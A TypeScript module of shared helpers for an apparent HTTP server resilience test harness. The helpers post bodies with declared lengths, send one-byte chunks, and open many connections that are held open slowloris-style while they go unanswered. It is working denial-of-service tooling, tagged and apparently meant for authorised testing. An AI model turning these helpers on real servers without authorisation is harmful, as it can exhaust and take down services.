/** Ways to attack that several attacks share. */
import { setTimeout as pause } from "node:timers/promises";
import { type Strike, toldAnswer, type Victim } from "./attack.ts";
import { proofOf } from "./post.ts";
import { beginPost } from "./raw-request.ts";

/** By which an attack's answer is found in the log. */
export const ATTACK_ID = "attack";

/** Posts a body whose length is told. */
export function postWhole(
  path: string,
  body: Uint8Array,
  headers: Readonly<Record<string, string>> = {},
): Strike {
  return async (victim) => {
    const length = { "Content-Length": String(body.length) };
    const request = await begin(victim, path, { ...length, ...headers });
    // The answer may come before all is sent.
    void request.send(body);
    const answer = await toldAnswer(request);
    request.socket.destroy();
    return [answer];
  };
}

/** Posts a body of a start and then chunks of one byte each. */
export function postSingleBytes(path: string, start: Uint8Array, count: number): Strike {
  return async (victim) => {
    const request = await begin(victim, path);
    if (start.length > 0) await request.send(start);
    await request.sendSingleBytes(count);
    request.end();
    const answer = await toldAnswer(request);
    request.socket.destroy();
    return [answer];
  };
}

/** Opens connections, sends as many bytes on each as are taken, and holds those that are not answered. */
export function holdConnections(
  path: string,
  count: number,
  bytes: Uint8Array,
  headers: Readonly<Record<string, string>> = {},
): Strike {
  return async (victim) => {
    const requests = await Promise.all(
      Array.from({ length: count }, async () => {
        const request = await begin(victim, path, headers);
        void request.send(bytes);
        return request;
      }),
    );
    const unanswered = pause(victim.holdMs, "held");
    const answers = requests.map((request) => Promise.race([toldAnswer(request), unanswered]));
    const told = await Promise.all(answers);
    for (const { socket } of requests) socket.destroy();
    return told;
  };
}

function begin(victim: Victim, path: string, headers: Readonly<Record<string, string>> = {}) {
  const { url, localAddress } = victim;
  const id = { "X-Request-Id": ATTACK_ID };
  return beginPost(new URL(path, url), { ...id, ...proofOf(victim), ...headers }, localAddress);
}
